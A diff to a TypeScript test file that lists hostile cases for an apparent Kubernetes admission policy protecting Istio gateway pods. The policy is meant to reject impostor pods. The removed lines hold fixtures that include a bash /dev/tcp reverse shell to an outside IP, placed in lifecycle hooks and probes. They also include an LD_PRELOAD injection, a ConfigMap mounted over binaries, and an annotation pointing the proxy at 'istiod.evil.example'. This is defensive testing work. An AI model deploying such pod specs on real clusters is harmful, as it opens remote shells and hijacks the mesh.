@@ -1,4 +1,5 @@
 import { type HostileCase, type PermittedRequest, type Request, type Sender, type SentObject } from "./case";
+import { IMPOSTORS } from "./impostors";
 import { gatewayDeployment, gatewayPod, gatewayProxy, POD_KINDS, type PodFields, workloadOf } from "./objects";
 import {
     administrator,
@@ -26,9 +27,14 @@ const deadOwner = {
 
 /** Pods that say of themselves what a gateway pod says, made or changed by somebody whose affair they are not. */
 export const gatewayMakerCases: readonly HostileCase[] = [
-    ...impostors().map(([name, title, fields, annotations]): HostileCase => {
+    ...IMPOSTORS.map(({ name, words, proxy, pod: fields, annotations }): HostileCase => {
         const pod = (objectName: string): SentObject =>
-            gatewayPod(objectName, fields, annotations === undefined ? {} : { annotations });
+            gatewayPod(
+                objectName,
+                { ...fields, ...(proxy === undefined ? {} : { containers: [{ ...gatewayProxy, ...proxy }] }) },
+                annotations === undefined ? {} : { annotations },
+            );
+        const title = `${words[0]!.toUpperCase()}${words.slice(1)}.`;
         return makerCase(name, title, administrator, NOT_MADE, create(pod(`one-more-${name}`)), {
             title: "The ReplicaSet controller makes it: the deployer wrote it so.",
             as: replicaSetController,
@@ -133,6 +139,18 @@ export const gatewayMakerCases: readonly HostileCase[] = [
         },
     ),
     makerCase(
+        "image",
+        "A gateway pod that runs gets another image.",
+        administrator,
+        CHANGED,
+        imageChanged("image", "registry.stranger.example/proxyv2:1"),
+        {
+            title: "A controller changes it.",
+            as: replicaSetController,
+            request: imageChanged("image-twin", "registry.acme.example/istio/proxyv2:1.30.4"),
+        },
+    ),
+    makerCase(
         "deleted",
         "A developer deletes gateway pods.",
         developer,
@@ -145,44 +163,6 @@ export const gatewayMakerCases: readonly HostileCase[] = [
         },
     ),
 ];
-
-/** Name, title, fields of the pod, annotations: programs of a stranger that look like the gateway. */
-function impostors(): [string, string, PodFields, Readonly<Record<string, string>>?][] {
-    const proxy = (fields: PodFields): PodFields => ({ containers: [{ ...gatewayProxy, ...fields }] });
-    const shell = { exec: { command: ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/443"] } };
-    return [
-        ["exact", "One more gateway pod, exactly as the others are.", {}],
-        [
-            "foreign-registry",
-            "An image called proxyv2 from a stranger's registry.",
-            proxy({ image: "registry.stranger.example/proxyv2:1" }),
-        ],
-        ["post-start", "The true image with a shell after its start.", proxy({ lifecycle: { postStart: shell } })],
-        ["pre-stop", "The true image with a shell before its end.", proxy({ lifecycle: { preStop: shell } })],
-        ["liveness", "The true image with a shell as its probe.", proxy({ livenessProbe: shell })],
-        ["startup", "The true image with a shell as its startup probe.", proxy({ startupProbe: shell })],
-        [
-            "library",
-            "The true image with a library of a stranger.",
-            proxy({ env: [{ name: "LD_PRELOAD", value: "/x.so" }] }),
-        ],
-        [
-            "config-map",
-            "A ConfigMap over the program.",
-            {
-                volumes: [{ name: "bin", configMap: { name: "bin", defaultMode: 0o755 } }],
-                containers: [{ ...gatewayProxy, volumeMounts: [{ name: "bin", mountPath: "/usr/local/bin" }] }],
-            },
-        ],
-        ["template-file", "Another bootstrap template.", proxy({ args: ["proxy", "router", "--templateFile=/x"] })],
-        [
-            "discovery",
-            "Another control plane.",
-            {},
-            { "proxy.istio.io/config": '{"discoveryAddress": "istiod.evil.example:15012", "binaryPath": "/bin/sh"}' },
-        ],
-    ];
-}
 
 function makerCase(
     name: string,
@@ -219,6 +199,11 @@ function labelled(name: string, labels: Readonly<Record<string, string>>, subres
         before: gatewayPod(`gateway-${name}`),
         object: gatewayPod(`gateway-${name}`, {}, { labels: { ...GATEWAY_LABELS, ...labels } }),
     };
+}
+
+function imageChanged(name: string, image: string): Request {
+    const containers = [{ ...gatewayProxy, image }];
+    return change(gatewayPod(`gateway-${name}`), gatewayPod(`gateway-${name}`, { containers }));
 }
 
 /** What the gateway's Deployment says, in another kind. */
